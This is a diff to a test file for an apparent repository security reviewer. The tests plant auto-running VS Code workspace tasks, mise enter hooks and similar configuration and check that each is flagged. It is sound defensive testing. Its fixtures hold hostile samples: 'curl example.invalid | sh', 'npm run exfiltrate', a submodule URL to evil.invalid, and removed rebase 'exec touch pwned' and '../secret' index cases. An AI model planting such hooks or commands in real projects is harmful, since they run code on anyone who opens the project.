@@ -8,7 +8,6 @@ review baseline was taken is not new; changing its content makes it new again.
 
 from __future__ import annotations
 
-import os
 from collections.abc import Callable
 from dataclasses import dataclass
 from typing import get_args
@@ -17,7 +16,6 @@ import pytest
 
 from cloister_cli.review import FindingKind, Severity, new_findings
 from tests.cli.review.conftest import Project, of_kind
-from tests.git_support import blob, forge_index
 
 Step = Callable[[Project], object]
 
@@ -34,14 +32,6 @@ class Case:
 
     def expand(self, text: str, project: Project) -> str:
         return text.format(outside=project.outside)
-
-
-def _rebase_todo(command: str) -> Step:
-    def plant(project: Project) -> None:
-        project.write(".git/rebase-merge/git-rebase-todo", f"pick 0000000 first\nexec {command}\n")
-        project.write(".git/rebase-merge/head-name", "refs/heads/main\n")
-
-    return plant
 
 
 def _tasks(command: str, run_on: str | None) -> Step:
@@ -62,33 +52,24 @@ def _tasks(command: str, run_on: str | None) -> Step:
     return lambda project: project.write(".vscode/tasks.json", text)
 
 
-def _gitlink(project: Project) -> None:
-    project.nested("sub")
-    project.git("add", "sub")
+def _workspace(command: str, run_on: str | None, name: str = "app.code-workspace") -> Step:
+    """A workspace file with its own tasks (``tasks.tasks``), JSONC like tasks.json."""
+    options = f'"runOptions": {{"runOn": "{run_on}"}},' if run_on else ""
+    text = (
+        "{\n"
+        '  "folders": [{"path": "."}], // the project\n'
+        '  "tasks": {\n'
+        '    "version": "2.0.0",\n'
+        f'    "tasks": [{{"label": "dev", "type": "shell", "command": "{command}", {options}}},],\n'
+        "  },\n"
+        "}\n"
+    )
+    return lambda project: project.write(f"tools/{name}", text)
 
 
-def _gitlink_moved(project: Project) -> None:
-    (project.root / "sub" / "new").write_text("more\n", encoding="utf-8")
-    project.git("-C", "sub", "add", "new")
-    project.git("-C", "sub", "commit", "-q", "-m", "second")
-    project.git("add", "sub")
-
-
-def _gitlink_listed(project: Project) -> None:
-    _gitlink(project)
-    project.write(".gitmodules", '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n')
-
-
-def _fifo(project: Project) -> None:
-    os.mkfifo(project.root / ".git" / "FETCH_HEAD")
-
-
-def _forged_index(*paths: str) -> Step:
-    def plant(project: Project) -> None:
-        readme = blob(project.root, "hello\n")
-        forge_index(project.root, [(0o100644, readme, path) for path in ("README", *paths)])
-
-    return plant
+def _mise(enter: str) -> Step:
+    text = f'[tools]\nnode = "22"\n\n[hooks]\nenter = "{enter}"\n'
+    return lambda project: project.write("mise.toml", text)
 
 
 def _outside_file(project: Project, name: str) -> str:
@@ -106,42 +87,6 @@ CASES: dict[str, Case] = {
         plant=lambda p: p.nested("sub", ("core.fsmonitor", "touch marker")),
         benign=lambda p: p.nested("sub", ("user.name", "Agent"), ("core.fsmonitor", "false")),
         change=lambda p: p.git("-C", "sub", "config", "core.fsmonitor", "touch other"),
-    ),
-    "gitlink-without-gitmodules": Case(
-        "gitlink-without-gitmodules",
-        "sub/",
-        "runs-code",
-        "enter the repository at sub/",
-        plant=_gitlink,
-        benign=_gitlink_listed,
-        change=_gitlink_moved,
-    ),
-    "git-dir-link": Case(
-        "git-dir-link",
-        ".git/FETCH_HEAD",
-        "reads-outside",
-        "git reads and may write that file instead: {outside}/secret",
-        plant=lambda p: p.link(".git/FETCH_HEAD", _outside_file(p, "secret")),
-        benign=lambda p: p.write(".git/FETCH_HEAD", "0000 branch 'main'\n"),
-        change=lambda p: p.link(".git/FETCH_HEAD", _outside_file(p, "other")),
-    ),
-    "alternates": Case(
-        "alternates",
-        ".git/objects/info/alternates",
-        "reads-outside",
-        "git reads objects from {outside}/objects",
-        plant=lambda p: p.write(".git/objects/info/alternates", f"{p.outside}/objects\n"),
-        benign=lambda p: p.write(".git/objects/info/packs", "P pack-0.pack\n"),
-        change=lambda p: p.write(".git/objects/info/alternates", "/srv/objects\n"),
-    ),
-    "git-info-file": Case(
-        "git-info-file",
-        ".git/info/exclude",
-        "review",
-        "hides the files matching its patterns from git status and git add: `secret-*`",
-        plant=lambda p: p.write(".git/info/exclude", "# mine\nsecret-*\n"),
-        benign=lambda p: p.write(".git/info/exclude", "# only comments\n\n"),
-        change=lambda p: p.write(".git/info/exclude", "# mine\nsecret-*\n*.sh\n"),
     ),
     "attributes-driver": Case(
         "attributes-driver",
@@ -170,6 +115,24 @@ CASES: dict[str, Case] = {
         benign=_tasks("make watch", None),
         change=_tasks("make exfiltrate", "folderOpen"),
     ),
+    "vscode-workspace": Case(
+        "vscode-task",
+        "tools/app.code-workspace",
+        "runs-code",
+        "VS Code runs `npm run dev` when you open this workspace",
+        plant=_workspace("npm run dev", "folderOpen"),
+        benign=_workspace("npm run dev", "default"),
+        change=_workspace("npm run exfiltrate", "folderOpen"),
+    ),
+    "mise": Case(
+        "mise",
+        "mise.toml",
+        "runs-code",
+        "mise runs `./bin/setup` (the `enter` hook) when you enter the project (mise activated)",
+        plant=_mise("./bin/setup"),
+        benign=lambda p: p.write("mise.toml", '[tools]\nnode = "22"\n[tasks.setup]\nrun = "x"\n'),
+        change=_mise("curl example.invalid | sh"),
+    ),
     "hook-config": Case(
         "hook-config",
         ".pre-commit-config.yaml",
@@ -193,15 +156,6 @@ CASES: dict[str, Case] = {
             ".gitmodules", '[submodule "lib"]\n\tpath = lib\n\turl = https://evil.invalid/x.git\n'
         ),
     ),
-    "sequencer": Case(
-        "sequencer",
-        ".git/rebase-merge",
-        "runs-code",
-        "`git rebase --continue` runs `touch pwned`",
-        plant=_rebase_todo("touch pwned"),
-        benign=lambda p: p.write(".git/ORIG_HEAD", "0" * 40 + "\n"),
-        change=_rebase_todo("touch pwned-again"),
-    ),
     "outside-symlink": Case(
         "outside-symlink",
         "docs/notes",
@@ -211,21 +165,11 @@ CASES: dict[str, Case] = {
         benign=lambda p: p.link("docs/notes", "../README"),
         change=lambda p: p.link("docs/notes", _outside_file(p, "other-notes")),
     ),
-    "index-entry": Case(
-        "index-entry",
-        ".git/index",
-        "runs-code",
-        "the index names 1 path(s) outside the work tree or in .git ('../secret'",
-        plant=_forged_index("../secret"),
-        benign=_forged_index("docs/secret"),
-        change=_forged_index("../other"),
-    ),
 }
 
 
 def test_the_table_covers_every_kind() -> None:
-    # "replaced" compares with the session record, not with the tree: cloister_cli.sessions.
-    assert set(CASES) == set(get_args(FindingKind)) - {"replaced"}
+    assert {case.kind for case in CASES.values()} == set(get_args(FindingKind))
 
 
 @pytest.mark.parametrize("name", list(CASES))
